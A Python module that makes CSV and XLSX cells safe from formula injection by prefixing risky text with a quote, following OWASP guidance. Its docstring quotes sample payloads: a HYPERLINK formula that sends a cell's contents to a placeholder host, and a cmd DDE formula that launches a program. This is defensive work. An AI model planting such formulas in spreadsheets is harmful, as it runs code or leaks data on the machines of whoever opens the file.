"""Spreadsheet-safe cells: every CSV and XLSX file patalliance writes goes through here.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV treats a cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and a tab or carriage return first
can hide one. A participant id or label such as ``=HYPERLINK("http://x?"&A1)`` or
``+cmd|' /C calc'!A0`` would run on the machine of whoever opens the file ("CSV injection",
"formula injection"). Following the OWASP guidance, :func:`neutralise` prefixes such a text
cell with a single quote (``'``), which every spreadsheet shows as text.

- **Only text is changed.** Numbers (``int``, ``float``, numpy numbers) are written as
  numbers. A text cell that is a plain decimal number (``-0.25``, ``+3``, ``-1e-3``) is a
  number to a spreadsheet, never a formula, and is written unchanged.
- **Reversible.** A text cell that already starts with ``'`` gets one more, so
  :func:`restore` (drop one leading ``'`` where the next character is ``'`` or one of the
  characters above) gives back exactly the original text.
- **Line breaks.** A file with a carriage return inside a text cell has its text cells
  quoted, so that no spreadsheet starts a new row (and an unescaped cell) inside one.
- **XLSX cells** hold the neutralised text as a string cell (``t="s"``), never a formula.

:func:`write_csv` writes a DataFrame as CSV (headers and index included);
:func:`safe_frame` gives the neutralised copy that the XLSX writers use.

References
----------
OWASP Foundation. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection
OWASP Foundation (2025). Application Security Verification Standard 5.0, requirement 1.2.10
(CSV and formula injection).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas is imported lazily by the functions that need it
    import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise", "restore", "safe_frame", "set_text", "write_csv"]

#: First characters that make a spreadsheet read a text cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED_STARTS = (*FORMULA_STARTS, "'")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text`` as a cell no spreadsheet runs as a formula.

    >>> neutralise("=HYPERLINK(\\"http://x\\")")
    '\\'=HYPERLINK("http://x")'
    >>> neutralise("-2+3"), neutralise("-0.25"), neutralise("P01"), neutralise("'a")
    ("'-2+3", '-0.25', 'P01', "''a")
    """
    if text.startswith(_ESCAPED_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The original text of a cell written by :func:`neutralise`.

    >>> restore("'=SUM(1)"), restore("''a"), restore("'plain"), restore("-0.25")
    ('=SUM(1)', "'a", "'plain", '-0.25')
    """
    if text.startswith("'") and text[1:].startswith(_ESCAPED_STARTS):
        return text[1:]
    return text


def _cell(value: Any) -> Any:
    return neutralise(value) if isinstance(value, str) else value


def _is_text(column: pd.Series) -> bool:
    import pandas as pd

    return pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell, column name and index label neutralised.

    Numeric columns are left as they are; in text (object or string) columns only ``str``
    cells change, so numbers stored among text stay numbers.
    """
    import pandas as pd

    out = frame.copy()
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if not _is_text(column):
            continue
        if isinstance(column.dtype, pd.CategoricalDtype):  # neutralise each category once
            out.isetitem(i, column.map(_cell, na_action="ignore").to_numpy(dtype=object))
            continue
        values = column.to_numpy(dtype=object, copy=True)
        present = values[~column.isna().to_numpy()]
        if not all(type(value) is str for value in present):
            # numbers among the text: Series.map infers the column's type as it always has
            out.isetitem(i, column.map(_cell, na_action="ignore").to_numpy(dtype=object))
            continue
        for k, value in enumerate(values):  # most cells need nothing: test before calling
            if type(value) is str and value.startswith(_ESCAPED_STARTS):
                values[k] = neutralise(value)
        out.isetitem(i, values)
    for axis in ("columns", "index"):
        labels = getattr(out, axis)
        if not isinstance(labels, pd.MultiIndex) and not pd.api.types.is_numeric_dtype(labels):
            renamed = labels.map(_cell)
            renamed.name = _cell(labels.name)
            setattr(out, axis, renamed)
    return out


def _holds_carriage_return(frame: pd.DataFrame) -> bool:
    labels = [*frame.columns, *frame.index.names]
    if any(isinstance(v, str) and "\r" in v for v in labels):
        return True
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        if _is_text(column) and any(isinstance(v, str) and "\r" in v for v in column):
            return True
    return False


def write_csv(frame: pd.DataFrame, path: str | Path, **kwargs: Any) -> None:
    """``frame.to_csv(path, **kwargs)`` with every text cell neutralised.

    A text cell holding a carriage return would end the line for a spreadsheet, and what
    follows it would start a new row unescaped; such a file has every text cell quoted.
    """
    import csv

    from patalliance.csv_text import write_plain_csv

    safe = safe_frame(frame)
    if kwargs == {"index": False} and write_plain_csv(safe, path):
        return  # a plain table (no cell needs quoting): the same bytes, written faster
    if "quoting" not in kwargs and _holds_carriage_return(safe):
        kwargs["quoting"] = csv.QUOTE_NONNUMERIC
    safe.to_csv(path, **kwargs)


def set_text(cell: Any) -> None:
    """Make an openpyxl cell holding text a neutralised string cell, never a formula."""
    if isinstance(cell.value, str):
        cell.value = neutralise(cell.value)
        cell.data_type = "s"
